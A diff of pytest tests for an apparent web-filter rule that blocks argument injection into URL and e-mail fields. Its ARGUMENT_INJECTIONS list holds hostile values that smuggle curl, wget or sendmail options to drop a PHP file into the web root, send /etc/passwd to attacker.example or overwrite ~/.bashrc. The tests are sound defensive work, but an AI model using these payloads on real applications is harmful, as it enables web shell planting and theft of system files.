@@ -820,3 +820,26 @@ def test_sentences_ended_by_a_semicolon_pass(edge, value):
 @pytest.mark.parametrize("value", COMMANDS_ENDED)
 def test_command_lines_ended_by_a_semicolon_refused(rce_edge, value):
     assert_blocked_by_rce(rce_edge, value)
+
+
+# Argument injection: one URL or e-mail address, then an option with a
+# path, a URL or an @file: the program the application hands the address
+# to (curl, wget, sendmail) takes the option as well. A dash in the
+# sentence after an address is no option.
+ARGUMENT_INJECTIONS = [
+    "https://hooks.partner.io/x -o /var/www/html/s.php https://attacker.example/s.txt",
+    "https://attacker.example/x --data-binary @/etc/passwd",
+    "orders@attacker.example -OQueueDirectory=/tmp -X/var/www/html/uploads/log.php",
+    "https://x.example/a.png -O ~/.bashrc", "http://x.example/f --output=/tmp/f"]
+ADDRESSES_THEN_TEXT = ["https://example.com -- great site", "john@example.com - see /docs",
+                       "https://example.com/a -x", "mail a@b.example -- thanks!"]
+
+
+@pytest.mark.parametrize("value", ARGUMENT_INJECTIONS)
+def test_options_after_an_address_refused(edge, value):
+    assert rule_fired(edge, value, "rce-argument"), value
+
+
+@pytest.mark.parametrize("value", ADDRESSES_THEN_TEXT)
+def test_dashes_after_an_address_pass(edge, value):
+    assert_passes_in_note_and_query(edge, value)
